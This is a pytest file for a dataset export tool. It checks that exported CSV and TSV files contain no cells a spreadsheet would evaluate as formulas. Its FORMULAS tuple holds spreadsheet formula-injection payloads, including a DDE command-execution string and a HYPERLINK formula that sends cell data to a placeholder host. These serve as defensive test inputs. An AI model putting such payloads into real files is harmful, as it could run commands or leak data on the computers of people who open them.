"""No cell of a csv or tsv is a formula to a spreadsheet, whatever names and texts others chose.

Programs read these files back, so nothing is escaped in them: what others chose does not get in,
or only as an id, a number or a path.
"""

import csv
import re
from pathlib import Path

import pyarrow as pa
import pytest
from typer.testing import CliRunner

from avsep.cli.app import app
from avsep.cutting.cut import CutRecording, recording_name, write_speakers
from avsep.schema import ID
from avsep.shards.index import IndexRow
from avsep.shards.index_table import read_parquet, write_tables
from avsep.shards.manifest import read_manifest, write_manifest
from avsep.tables import arrow_schema
from tests.support.synthetic_workspace import make_workspace

FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1)', "+1+1", "-1+1", "@SUM(1)", "\t=1")
NUMBER = re.compile(r"-?[0-9.]+(e-?[0-9]+)?")


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would calculate a cell; names and numbers may begin with a minus."""
    begins = cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    return begins and not ID.fullmatch(cell) and not NUMBER.fullmatch(cell)


def cells(folder: Path) -> list[str]:
    """All cells of all tables below a folder."""
    found = []
    for path in sorted(folder.rglob("*")):
        if path.suffix in (".csv", ".tsv"):
            with path.open(newline="") as file:
                found += [cell for row in csv.reader(file, delimiter=",\t"[path.suffix == ".tsv"])
                          for cell in row]  # fmt: skip
    return found


@pytest.mark.parametrize("form", ["auto-avsr", "av-hubert", "muse", "huggingface"])
@pytest.mark.slow
def test_an_export_holds_no_formulas(tmp_path, form):
    workspace = make_workspace(tmp_path / "project", num_frames=25)
    table = read_parquet(workspace.shards, arrow_schema(IndexRow))
    texts = pa.array([FORMULAS[row % len(FORMULAS)] for row in range(len(table))])
    for column in ("text", "corpus"):
        at = table.column_names.index(column)
        table = table.set_column(at, table.schema.field(column), texts)
    write_tables(workspace.shards, table)
    manifest = read_manifest(workspace.shards)
    write_manifest(workspace.shards, manifest.shards, manifest.storage)
    out = tmp_path / "out"
    words = ["export", form, "--out", str(out), "--root", str(workspace.root)]
    words += ["--split", "train", "--split", "val", "--train-mixtures", "2"]
    result = CliRunner().invoke(app, words)
    assert result.exit_code == 0, result.output
    found = cells(out)
    assert found or form == "huggingface"
    assert [cell for cell in found if is_formula(cell)] == []


def test_recordings_of_any_name_are_no_formulas(tmp_path):
    recordings = [
        CutRecording(
            folder=tmp_path / recording_name(Path(f"{name}.mp4")),
            spans=[{"file": "clip000.mp4", "face": 0}],
        )
        for name in FORMULAS
    ]
    assert write_speakers(tmp_path / "speakers.csv", recordings) == len(FORMULAS)
    found = cells(tmp_path)
    assert len(found) == 3 * (1 + len(FORMULAS))
    assert [cell for cell in found if is_formula(cell)] == []


def test_the_check_finds_formulas():
    assert all(map(is_formula, FORMULAS))
    assert not any(map(is_formula, ("-x_1", "-1.5e-3", "a=b", "/home/=x", "")))
